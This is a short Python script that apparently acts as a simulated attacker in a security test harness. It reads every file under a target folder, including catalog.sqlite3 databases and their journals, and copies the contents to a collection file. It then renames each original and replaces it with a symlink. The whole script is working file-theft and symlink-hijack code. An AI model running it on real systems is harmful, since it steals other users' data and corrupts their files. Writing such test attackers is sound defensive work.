"""snoop.py UID GID FOLDER FOUND: reads every file that turns up below FOLDER, and writes down in FOUND what it got.
It also gives each name that turns up to a link to FOUND, where it may."""

import os

import attacker

folder, found = attacker.arguments()


def take(path):
    attacker.tries += 1
    try:
        with open(path, "rb") as file:
            content = file.read()
        if content:
            with open(found, "ab") as file:
                file.write(content)
    except OSError:
        pass
    if attacker.attempt(os.rename, path, path + ".taken"):
        attacker.attempt(os.symlink, found, path)


def step():
    attacker.tries += 1
    try:
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            if os.path.isdir(path):
                for inner in ("catalog.sqlite3", "catalog.sqlite3-journal"):
                    take(os.path.join(path, inner))
            take(path)
    except OSError:
        pass


attacker.run(step)
